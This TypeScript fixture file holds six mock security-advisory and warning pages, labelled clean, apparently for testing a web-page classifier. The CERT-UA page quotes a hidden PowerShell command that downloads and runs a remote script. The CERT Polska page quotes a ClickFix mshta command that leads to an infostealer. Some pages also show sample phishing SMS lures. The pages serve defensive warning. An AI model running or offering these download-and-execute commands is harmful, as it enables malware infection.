import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, esc, consent, analytics, uaFlag, siteFooter } from '../parts/ym-kit.js';

const artCss = (accent: string): string => `body{margin:0;font-family:'Source Sans Pro',Arial,sans-serif;color:#222;background:#fff}.h{background:${accent};color:#fff;padding:16px 32px;display:flex;justify-content:space-between;align-items:center}.h a{color:#fff;margin-left:16px;text-decoration:none;font-size:14px}
main{max-width:800px;margin:28px auto;padding:0 18px;line-height:1.7;font-size:17px}pre{background:#f4f4f4;border:1px solid #ddd;padding:12px;overflow:auto;font-size:13px;line-height:1.5;white-space:pre-wrap;word-break:break-all}
.meta{color:#777;font-size:14px}table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #ddd;padding:6px 8px;text-align:left}blockquote{background:#fff8e1;border-left:4px solid #f2b600;margin:14px 0;padding:10px 14px;font-size:15px}`;

export const entries: Entry[] = [
{
  id: 'ym-clean-cert-ua-advisory-court-lnk',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://cert.gov.ua/article/6278114',
  body: doc({
    lang: 'uk',
    title: 'Масові розсилки від імені судів з використанням LNK-файлів (CERT-UA#8917)',
    css: artCss('#1a2b4c'),
    body: `<div class="h"><span style="display:flex;gap:10px;align-items:center">${uaFlag}<b>CERT-UA</b></span><span><a href="/articles">Новини</a><a href="/recommendations">Рекомендації</a><a href="/contacts">Контакти</a></span></div>
<main><p class="meta">14.03.2024 · CERT-UA#8917</p><h1>Масові розсилки від імені судів з використанням LNK-файлів</h1>
<p>Урядовою командою реагування на комп'ютерні надзвичайні події України CERT-UA виявлено масове розповсюдження електронних листів з темою «Повістка до суду» та посиланням на сторінку, яка автоматично завантажує ZIP-архів. Архів містить LNK-файл з подвійним розширенням «.pdf.lnk».</p>
<p>У разі відкриття LNK-файлу буде виконано команду такого вигляду:</p>
<pre>${esc(`C:\\Windows\\System32\\cmd.exe /c start /min powershell -w hidden -ep bypass -c "$u='hxxps://sud-doc-ua[.]com/c/p.ps1';iex (New-Object Net.WebClient).DownloadString($u)"`)}</pre>
<p>Завантажений PowerShell-сценарій встановлює програму віддаленого доступу та забезпечує її автозапуск через ключ реєстру <code>HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run</code>.</p>
<h2>Індикатори компрометації</h2>
<table><tr><th>Тип</th><th>Значення</th></tr><tr><td>Домен</td><td>court-gov-ua.e-povistka[.]com</td></tr><tr><td>Домен</td><td>sud-doc-ua[.]com</td></tr><tr><td>Файл</td><td>Povistka_sud_754-2291-24.zip</td></tr><tr><td>SHA256</td><td>3f1c0b7a9e5d24c8b61f0a7d2e9c4b18a6f35d7e0c2b9a41f8d6e3c5b7a90f12</td></tr></table>
<h2>Рекомендації</h2><ul><li>Обмежити можливість запуску LNK-, JS-, HTA-файлів з каталогів завантажень за допомогою SRP/AppLocker.</li><li>Повідомляти про підозрілі листи на <a href="mailto:incidents@cert.gov.ua">incidents@cert.gov.ua</a>.</li></ul></main>
${siteFooter(['CERT-UA · Державна служба спеціального зв\'язку та захисту інформації України'])}`,
  }),
},
{
  id: 'ym-clean-cert-pl-clickfix-writeup',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://cert.pl/posts/2024/03/clickfix-falszywa-captcha/',
  body: doc({
    lang: 'pl',
    title: 'Fałszywe CAPTCHA nakłaniają do uruchomienia poleceń PowerShell | CERT Polska',
    head: analytics('G-CERTPL0001'),
    css: artCss('#0b2e59') + `.steps{background:#f0f4fa;border-radius:6px;padding:14px 18px}`,
    body: `<div class="h"><b>CERT Polska</b><span><a href="/posts/">Publikacje</a><a href="https://incydent.cert.pl/">Zgłoś incydent</a><a href="/en/">EN</a></span></div>
<main><p class="meta">12 marca 2024 · Analiza</p><h1>Fałszywe CAPTCHA nakłaniają do uruchomienia poleceń PowerShell</h1>
<p>W ostatnich tygodniach obserwujemy falę przejętych stron – w tym serwisów samorządowych i lokalnych portali informacyjnych – na których wstrzykiwany jest skrypt wyświetlający fałszywą weryfikację „Nie jestem robotem”. Po kliknięciu w pole wyboru strona kopiuje do schowka polecenie i prosi użytkownika o wykonanie trzech kroków:</p>
<div class="steps">1. Naciśnij klawisz Windows + R<br>2. Naciśnij CTRL + V<br>3. Naciśnij Enter</div>
<p>Skopiowane polecenie wygląda następująco (adres zmieniony):</p>
<pre>mshta hxxps://gmina-cdn-verify[.]com/cf/verify.hta # ✔ Nie jestem robotem — weryfikacja reCAPTCHA ID: 2193</pre>
<p>Komentarz na końcu polecenia sprawia, że w oknie „Uruchom” użytkownik widzi jedynie uspokajający tekst. Plik HTA pobiera następnie infostealer Lumma.</p>
<h2>Jak się chronić?</h2><p>Żadna prawdziwa strona nie wymaga wklejania poleceń do okna „Uruchom” ani terminala w celu weryfikacji. Administratorzy mogą zablokować okno Uruchom przez GPO (<code>NoRun</code>) lub ograniczyć <code>mshta.exe</code>.</p>
<p>Podejrzane strony zgłaszaj na <a href="https://incydent.cert.pl/">incydent.cert.pl</a>.</p></main>
${siteFooter(['CERT Polska · NASK – Państwowy Instytut Badawczy', 'ul. Kolska 12, 01-045 Warszawa'])}`,
  }),
},
{
  id: 'ym-clean-pkobp-security-sms-examples',
  label: 'clean',
  kind: 'security-advice',
  url: 'https://www.pkobp.pl/bezpieczenstwo/aktualne-zagrozenia/',
  body: doc({
    lang: 'pl',
    title: 'Aktualne zagrożenia – Bezpieczeństwo | PKO Bank Polski',
    css: artCss('#004c9a') + `.sms{background:#eef3fa;border-radius:14px;padding:12px 16px;max-width:420px;font-size:15px;margin:10px 0}`,
    body: `<div class="h"><b>PKO BANK POLSKI</b><span><a href="https://www.ipko.pl/">Zaloguj</a><a href="/bezpieczenstwo/">Bezpieczeństwo</a></span></div>
<main><h1>Aktualne zagrożenia</h1><p class="meta">Aktualizacja: 14.03.2024</p>
<h2>SMS o dopłacie do paczki</h2><p>Przestępcy wysyłają SMS-y podszywające się pod firmy kurierskie. Link prowadzi do strony z płatnością, a następnie do fałszywej strony logowania do banku:</p>
<div class="sms">InPost: Twoja paczka czeka w Paczkomacie. Brak dopłaty 1,99 zł. Opłać: inpost-pl.paczka-doplata[.]com</div>
<h2>Fałszywy zwrot podatku</h2><div class="sms">e-Urząd Skarbowy: Masz do odbioru nadpłatę podatku 716,20 zł. Zaloguj się: pz-gov.pl-logowanie[.]info</div>
<h2>„Pracownik banku” w telefonie</h2><p>Oszuści dzwonią, podając się za dział bezpieczeństwa banku lub policję, i namawiają do zainstalowania aplikacji AnyDesk lub RustDesk albo do przelania środków na „konto techniczne”.</p>
<h2>Co robić?</h2><ul><li>Logując się, wpisuj adres <b>www.ipko.pl</b> samodzielnie.</li><li>Nigdy nie podawaj kodów z SMS ani nie zatwierdzaj w IKO operacji, których nie zlecałeś.</li><li>Podejrzane SMS-y przekaż na numer <b>8080</b> (CERT Polska).</li><li>W razie wątpliwości zadzwoń: <b>800 302 302</b>.</li></ul></main>`,
  }),
},
{
  id: 'ym-clean-it-helpdesk-powershell-copy',
  label: 'clean',
  kind: 'it-support-commands',
  url: 'https://it.muni.cz/sluzby/eduroam/navody/windows-reset-site',
  body: doc({
    lang: 'cs',
    title: 'Eduroam: reset síťového nastavení ve Windows | IT MU',
    css: artCss('#0000dc') + `.cmd{position:relative}.cmd button{position:absolute;top:6px;right:6px;font-size:12px;padding:4px 8px;border:1px solid #bbb;background:#fff;border-radius:4px;cursor:pointer}`,
    body: `<div class="h"><b>IT Masarykovy univerzity</b><span><a href="/sluzby">Služby</a><a href="/kontakty">Kontakty</a><a href="https://it.muni.cz/en">EN</a></span></div>
<main><h1>Eduroam: reset síťového nastavení ve Windows</h1>
<p>Pokud se po aktualizaci Windows nemůžete připojit k síti eduroam, obnovte nastavení sítě. Otevřete <b>Terminál (správce)</b> kliknutím pravým tlačítkem na Start a postupně spusťte následující příkazy. Tlačítkem „Kopírovat“ příkaz zkopírujete do schránky.</p>
<div class="cmd"><pre id="c1">netsh wlan delete profile name="eduroam"</pre><button data-c="c1">Kopírovat</button></div>
<div class="cmd"><pre id="c2">ipconfig /flushdns</pre><button data-c="c2">Kopírovat</button></div>
<div class="cmd"><pre id="c3">netsh winsock reset</pre><button data-c="c3">Kopírovat</button></div>
<div class="cmd"><pre id="c4">Get-NetAdapter | Where-Object Status -eq 'Up' | Restart-NetAdapter</pre><button data-c="c4">Kopírovat</button></div>
<p>Poté restartujte počítač a nainstalujte profil pomocí nástroje <a href="https://cat.eduroam.org/?idp=1035">eduroam CAT</a>. Pokud problém přetrvává, kontaktujte <a href="mailto:helpdesk@ics.muni.cz">helpdesk@ics.muni.cz</a>.</p>
<p class="meta">Upozornění: IT MU vás nikdy nebude žádat o vložení příkazů na webových stránkách jiných než it.muni.cz.</p></main>
<script>document.querySelectorAll('.cmd button').forEach(function(b){b.addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent).then(function(){b.textContent='Zkopírováno'})})})</script>`,
  }),
},
{
  id: 'ym-clean-dnsc-ro-tech-support-warning',
  label: 'clean',
  kind: 'security-advice',
  url: 'https://dnsc.ro/citeste/alerta-pop-up-uri-false-de-suport-tehnic',
  body: doc({
    lang: 'ro',
    title: 'ALERTĂ: Pop-up-uri false de suport tehnic care afișează numere de telefon din România | DNSC',
    css: artCss('#002b7f') + `.fake{border:2px dashed #c00;padding:12px;font-size:14px;background:#fff5f5}`,
    body: `<div class="h"><b>Directoratul Național de Securitate Cibernetică</b><span><a href="/citeste">Știri</a><a href="https://pnrisc.dnsc.ro/">Raportează</a></span></div>
<main><p class="meta">11.03.2024 · Alertă</p><h1>Pop-up-uri false de „suport tehnic” care afișează numere de telefon din România</h1>
<p>DNSC avertizează asupra unor pagini web care simulează avertismente de securitate Apple sau Microsoft, pornesc un semnal sonor și trec browserul în modul ecran complet. Exemplu de text afișat:</p>
<div class="fake">„iCloud: sistemul dvs. este infectat cu 3 viruși … Sunați imediat la Asistența Apple România: +40 31 630 08 19”</div>
<p>Persoana care răspunde solicită instalarea unei aplicații de acces la distanță (AnyDesk, TeamViewer) și apoi accesarea contului bancar „pentru verificare”.</p>
<h2>Ce trebuie să faceți</h2><ul><li>Nu sunați la numerul afișat.</li><li>Închideți browserul din Task Manager (Ctrl+Shift+Esc) dacă pagina nu se închide.</li><li>Raportați incidentul la numărul <b>1911</b> sau pe <a href="https://pnrisc.dnsc.ro/">pnrisc.dnsc.ro</a>.</li></ul></main>`,
  }),
},
{
  id: 'ym-clean-ukrinform-deepfake-investment-news',
  label: 'clean',
  kind: 'news-article',
  url: 'https://www.ukrinform.ua/rubric-society/3838120-shahrai-vikoristovuut-dipfejki-posadovciv-dla-reklami-investicij.html',
  body: doc({
    lang: 'uk',
    title: 'Шахраї використовують діпфейки посадовців для реклами «інвестицій» | Укрінформ',
    head: analytics('G-UKRINF0001'),
    css: `body{margin:0;font-family:Arial,sans-serif;color:#222}.h{background:#fff;border-bottom:3px solid #0057b7;padding:14px 30px;font-size:24px;font-weight:700;color:#0057b7}.nav{padding:8px 30px;font-size:13px;border-bottom:1px solid #eee}.nav a{margin-right:14px;color:#333;text-decoration:none}
article{max-width:760px;margin:24px auto;padding:0 16px;line-height:1.7;font-size:17px}.meta{color:#888;font-size:13px}.ad{background:#f3f3f3;height:90px;margin:20px 0;display:flex;align-items:center;justify-content:center;color:#aaa;font-size:12px}`,
    body: `<div class="h">УКРІНФОРМ</div><div class="nav"><a href="#">Політика</a><a href="#">Економіка</a><a href="#">Суспільство</a><a href="#">Війна</a><a href="#">Світ</a></div>
<article><p class="meta">Суспільство · 14.03.2024 10:25</p><h1>Шахраї використовують діпфейки посадовців для реклами «інвестицій»</h1>
<p>Центр протидії дезінформації попереджає про хвилю реклами в соцмережах, у якій згенеровані штучним інтелектом відео з відомими посадовцями та банкірами закликають «інвестувати від 6 000 гривень» у платформи нібито державних компаній.</p>
<p>Реклама веде на сайти, оформлені під новинні видання. Після реєстрації жертві телефонує «персональний менеджер», який переконує внести депозит, а згодом вимагає «податок на виведення коштів».</p>
<div class="ad">Реклама</div>
<p>У НБУ нагадали, що перелік фінансових установ, які мають ліцензію, розміщено на офіційному сайті регулятора, а держава не пропонує громадянам інвестиційних продуктів через рекламу в соцмережах.</p></article>
${consent('Ми використовуємо cookie.', 'Погоджуюсь', 'Докладніше', '/privacy')}`,
  }),
},
];
